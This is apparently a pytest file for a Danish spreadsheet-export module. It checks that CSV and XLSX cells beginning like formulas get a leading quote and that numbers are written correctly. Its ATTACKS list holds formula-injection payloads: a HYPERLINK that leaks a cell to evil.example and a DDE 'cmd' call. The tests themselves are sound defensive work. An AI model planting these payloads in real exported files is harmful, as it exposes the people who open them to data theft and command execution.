"""kerne/spreadsheets.py: text is never a formula, numbers are numbers (issue 10, points 2 and 13)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from kerne.spreadsheets import FORMULA_START, Number, csv_text, neutralise, xlsx_append

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Aftenteam")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_starts_like_a_formula_gets_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Aftenteam", "Team = godt", "3. sal", "'citat", "", "–2 (tankestreg)"])
def test_ordinary_text_is_left_as_it_is(text):
    assert neutralise(text) == text


def test_csv_wraps_and_neutralises_text_and_writes_danish_numbers():
    text = csv_text(
        [
            ["Enhed", "Score", "Antal", "Forskel"],
            [ATTACKS[0], Number(53.25, 1), 11, Number(-2.5, 1)],
            ['Hjem; "plejen"', 77.3, Decimal("1234.500"), Number(None)],
            ["Nul", Number(-0.04, 1), Number(float("inf"), 1), None],
        ]
    )
    lines = text.split("\r\n")
    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Aftenteam"")";53,3;11;-2,5'
    assert lines[2] == '"Hjem; ""plejen""";77,3;1234,5;'
    assert lines[3] == '"Nul";0,0;;'
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][0].startswith("'=") and rows[2][0] == 'Hjem; "plejen"'
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or cell.lstrip("-").replace(",", "").isdigit()


def test_xlsx_text_is_a_string_cell_numbers_are_numbers():
    workbook = Workbook()
    sheet = workbook.active
    for attack in ATTACKS:
        xlsx_append(sheet, [attack, Number(77.25, 1), 11, Decimal("2.5")])
    xlsx_append(sheet, ["kontrol\x01tegn\x1f", None, Number(float("nan"))])
    buffer = io.BytesIO()
    workbook.save(buffer)
    loaded = load_workbook(io.BytesIO(buffer.getvalue())).active
    rows = list(loaded.iter_rows())
    for row, attack in zip(rows, ATTACKS, strict=False):
        name, score, count, decimal = row
        assert name.data_type == "s" and name.value == "'" + attack.replace("\r", "\n")
        assert score.data_type == "n" and score.value == 77.25 and score.number_format == "0.0"
        assert count.value == 11 and decimal.value == 2.5
    assert rows[-1][0].value == "kontroltegn" and rows[-1][2].value is None
    assert all(cell.data_type != "f" for row in rows for cell in row)
